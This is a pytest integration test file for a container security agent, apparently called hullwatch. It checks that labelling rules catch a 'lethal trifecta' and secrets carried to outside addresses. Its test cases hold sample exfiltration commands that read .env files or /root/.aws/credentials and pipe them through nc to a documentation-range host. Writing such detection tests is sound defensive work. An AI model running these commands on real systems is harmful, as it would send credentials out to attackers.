"""Rules about labels, in real containers through the whole agent: one act in each, for what a
process has read stays with it."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from hullwatch.demo.watcher import Watcher
from hullwatch.detect.ruleset import load
from hullwatch.store.catalog import Catalog
from support.agent import PACK, Agent
from support.attacks import Attack
from support.attacks.driven import done, drive
from support.backtests import found_again
from support.bundles import Mount
from support.cli import cli
from support.conformance import record
from support.images import Image
from support.needs import missing
from support.recording import Recording
from support.runc import Network, Runc
from support.scratch import poll
from support.watch import missing_bpf

pytestmark = pytest.mark.timeout(600)

TRIFECTA = "Lethal trifecta in a container"
NEVER_USED = "Secret carried to a destination that this workload never used"
CARRIED = "Secret carried to a public address by what a tool started"
TALK = 'socket.create_connection(("{}", 443)).close()\n'
KEY = 'open("/srv/app/.env").read()\n'
OUT = "203.0.113.7:443"

# name: (code, rules about labels that it meets, and with which object)
ACTS: dict[str, tuple[str, dict[str, str]]] = {
    "trifecta": (TALK.format("203.0.113.9") + KEY + TALK.format("203.0.113.7"), {TRIFECTA: OUT}),
    "earlier": (
        TALK.format("203.0.113.9")
        + 'server = socket.create_server(("203.0.113.7", 4443))\n'
        + 'link = socket.create_connection(("203.0.113.7", 4443))\n'
        + KEY
        + 'link.sendall(b"x")',
        {TRIFECTA: "203.0.113.7:4443"},
    ),
    "piped": (
        'run("/bin/sh", "-c", "x=$(/bin/cat /srv/app/.env); echo $x | /bin/nc 203.0.113.7 4444")',
        {CARRIED: "203.0.113.7:4444"},
    ),
    "by-a-file": (
        'run("/bin/sh", "-c", "/bin/cp /root/.aws/credentials /tmp/x")\n'
        'run("/bin/sh", "-c", "/bin/nc 203.0.113.7 4444 < /tmp/x")',
        {CARRIED: "203.0.113.7:4444"},
    ),
    "key-and-provider": (KEY + TALK.format("203.0.113.7"), {}),
    "no-key": (TALK.format("203.0.113.9") + TALK.format("203.0.113.7"), {}),
    "inside": (TALK.format("203.0.113.9") + KEY + TALK.format("127.0.0.1"), {}),
    "plain-pipe": (
        'run("/bin/sh", "-c", "x=$(/bin/cat /etc/passwd); echo $x | /bin/nc 203.0.113.7 4444")',
        {},
    ),
}
Found = dict[str, dict[str, set[str]]]


@pytest.fixture(scope="module")
def found(
    tmp_path_factory: pytest.TempPathFactory, busybox_image: Image, python_image: Image
) -> Iterator[tuple[Found, Found, Agent]]:
    """By container and rule the objects: live, and in a recording."""
    if reason := missing("runc", "ip") or missing_bpf():
        pytest.skip(reason)
    folder = tmp_path_factory.mktemp("labelled")
    names: dict[str, str] = {}
    labels = ("secret", "private", "untrusted")
    with (
        Agent(folder / "store", labels=labels) as agent,
        Runc(busybox_image) as runc,
        Network("air") as network,
    ):
        for address in ("203.0.113.7", "203.0.113.9"):
            network.add_address(f"{address}/32")
        with Recording(folder / "capture") as recording:
            for name, (code, _) in ACTS.items():
                act = [Attack(name, code, {})]
                box = drive(runc, python_image, name, folder, act, network=network.path)
                done(box, act)
                names[box.id] = name
            agent.settle()
        live: Found = {name: {} for name in ACTS}
        for ident, name in names.items():
            for one in agent.stored(ident):
                live[name].setdefault(one["rule"], set()).add(one["object"])
        replayed: Found = {name: {} for name in ACTS}
        for rule, ident, object_ in recording.findings([PACK])[0]:
            if ident in names:
                replayed[names[ident]].setdefault(rule, set()).add(object_)
        yield live, replayed, agent


def of_labels(one: dict[str, set[str]]) -> dict[str, set[str]]:
    return {rule: objects for rule, objects in one.items() if rule in (TRIFECTA, CARRIED)}


def test_every_rule_about_labels_is_here():
    rules = {rule.name for rule in load([PACK]).rules if "hw.labels" in rule.sources}
    assert rules == {TRIFECTA, CARRIED, NEVER_USED}
    assert {TRIFECTA, CARRIED} == {rule for _, met in ACTS.values() for rule in met}


@pytest.mark.parametrize("name", ACTS)
def test_what_is_found_live_and_in_a_recording(found: tuple[Found, Found, Agent], name: str):
    live, replayed, _ = found
    expected = {rule: {object_} for rule, object_ in ACTS[name][1].items()}
    for rule in (TRIFECTA, CARRIED):
        good = of_labels(live[name]).get(rule, set()) == expected.get(rule, set())
        again = of_labels(replayed[name]).get(rule, set()) == expected.get(rule, set())
        what = {"live": good} if rule in expected else {"near_miss": good}
        record("own", rule, loads=True, replay=again, reason="", **what)
    assert of_labels(live[name]) == expected
    assert of_labels(replayed[name]) == expected


def test_the_way_of_a_label_is_told(found: tuple[Found, Found, Agent]):
    _, _, agent = found
    agent.settle()
    steps = cli(agent.store, "labels", "--container", "by-a-file", "--label", "secret")
    first = next(one for one in steps if one["object"] == "/root/.aws/credentials")
    assert first["way"] == "took" and not first["came_by"]
    last = [one for one in steps if one["object"] == "/tmp/x" and one["way"] == "took"]
    assert last and last[-1]["came_by"][0] == "/root/.aws/credentials"


def test_nobody_outside_got_a_label(found: tuple[Found, Found, Agent]):
    _, _, agent = found
    assert {one["workload"] for one in cli(agent.store, "labels")} <= set(ACTS)
    status = agent.status()
    assert status is not None and (status["losses"], status["faults"]) == ({}, {})


def test_labels_stand_in_findings_events_and_the_tree(found: tuple[Found, Found, Agent]):
    _, _, agent = found
    both = ["secret", "untrusted"]
    told = [one for one in cli(agent.store, "findings") if one["rule"] == TRIFECTA]
    assert told and all(one["labels"] == both for one in told)
    events = cli(agent.store, "events", "--container", "trifecta", "--class", "connect")
    assert [one["label_names"] for one in events if one["object"] == OUT] == [both]
    (story,) = cli(agent.store, "tree", "trifecta")
    assert both in [one["labels"] for one in story["processes"]]
    (doctor,) = cli(agent.store, "doctor", "--quick")
    labels = doctor["labels"]
    assert (labels["given"], labels["host"]) == (["secret", "private", "untrusted"], False)
    assert any("shared memory" in spot for spot in labels["not_followed"])


# What the image has done before; then, in one container each, a secret goes through a file to
# another process, which talks to a host that the image knows, and to one that it does not.
BEFORE = TALK.format("203.0.113.7")
SENDER = """
import socket, sys
open(sys.argv[1]).read()
for address in ("203.0.113.7", "203.0.113.9"):
    socket.create_connection((address, 443)).close()
"""
COPIES = 'run("/bin/sh", "-c", "/bin/cp /root/.aws/credentials /tmp/x")\n'
LATER = {
    name: f'{COPIES}assert not run("/usr/bin/python3", "-c", {SENDER!r}, "{path}")'
    for name, path in (("carrier", "/tmp/x"), ("clean", "/etc/hostname"))
}


def test_a_secret_and_a_destination_that_the_image_never_used(
    tmp_path: Path, busybox_image: Image, python_image: Image
):
    if reason := missing("runc", "ip") or missing_bpf():
        pytest.skip(reason)
    store, image = tmp_path / "store", python_image.digest
    found: dict[str, set[str]] = {}
    boxes: dict[str, str] = {}
    with Agent(store) as agent, Runc(busybox_image) as runc, Network("air") as network:
        for address in ("203.0.113.7", "203.0.113.9"):
            network.add_address(f"{address}/32")
        for name, code in ({"before": BEFORE} | LATER).items():
            act = [Attack(name, code, {})]
            box = drive(runc, python_image, name, tmp_path, act, network=network.path)
            done(box, act)
            agent.settle()
            told = [one for one in agent.stored(box.id) if one["rule"] == NEVER_USED]
            found[name], boxes[name] = {one["object"] for one in told}, box.id
            assert all(one["labels"] == ["secret"] for one in told)
            if name == "before":
                learn(store, image)
    good = found["carrier"] == {"203.0.113.9:443"}
    history = found_again(store, [PACK])
    again = {
        name: {thing for box, rule, thing in history if (box, rule) == (ident, NEVER_USED)}
        for name, ident in boxes.items()
    }
    said = {"live": good, "near_miss": not found["clean"], "replay": again == found}
    record("own", NEVER_USED, loads=True, reason="", **said)
    assert again == found
    assert found == {"before": set(), "carrier": {"203.0.113.9:443"}, "clean": set()}


def learn(store: Path, image: str) -> None:
    """What was seen until now is what the image does."""

    def rows(sql: str) -> list[tuple[Any, ...]]:
        with Catalog(store) as catalog:
            return catalog.rows(sql)

    profiles, said = "SELECT image FROM baselines", "SELECT id FROM notices WHERE kind = 'baseline'"
    poll(lambda: (image,) in rows(profiles), seconds=120, waiting_for="a profile in the store")
    cli(store, "baseline", "learn", image, "--since", "1h", "--learning", "1ms")
    poll(lambda: bool(rows(said)), seconds=120, waiting_for="the agent to follow")


# Talks to itself under an address, then reads a file.
TALKER = """
import socket, sys
server = socket.create_server((sys.argv[1], 4443))
socket.create_connection((sys.argv[1], 4443)).sendall(b"x")
open("/mnt/handed").read()
print("done", flush=True)
"""
HOST = """
import sys
open(sys.argv[1] + "/.env").read()
open(sys.argv[1] + "/handed", "w").write("x")
"""


@pytest.mark.parametrize("host", [True, False])
def test_what_up_is_told_of_networks_and_the_host(tmp_path: Path, python_image: Image, host: bool):
    if reason := missing("runc", "ip") or missing_bpf():
        pytest.skip(reason)
    files = tmp_path / "files"
    files.mkdir()
    (files / ".env").write_text("TOKEN=x")
    options = ["--labels", "secret,untrusted", "--trusted", "203.0.113.7/32", "--no-tap"]
    agent = Watcher(tmp_path / "store", [*options, *["--label-host"] * host])
    try:
        with Runc(python_image) as runc, Network("air") as network:
            subprocess.run([sys.executable, "-c", HOST, files], check=True)
            for name, address in (("near", "203.0.113.7"), ("far", "203.0.113.9")):
                network.add_address(f"{address}/32")
                command = ["/usr/bin/python3", "-c", TALKER, address]
                mounts = [Mount(files, "/mnt")]
                one = runc.start(command, name=name, mounts=mounts, network=network.path)
                one.wait_for_output("done", 60)
            agent.stop()  # before their bundles go, which say who they were
    finally:
        agent.stop()
    took = [one for one in cli(agent.store, "labels") if one["way"] == "took"]
    inside = [one for one in took if one["workload"] in ("near", "far")]
    assert [(one["workload"], one["labels"], one["object"]) for one in inside] == [
        ("far", ["untrusted"], "203.0.113.9:4443")
    ]
    outside = [one["labels"] for one in took if one["object"] == f"{files}/.env"]
    assert outside == ([["secret"]] if host else [])
    given = [one for one in cli(agent.store, "labels") if one["object"] == f"{files}/handed"]
    assert [one["way"] for one in given] == (["gave"] if host else [])
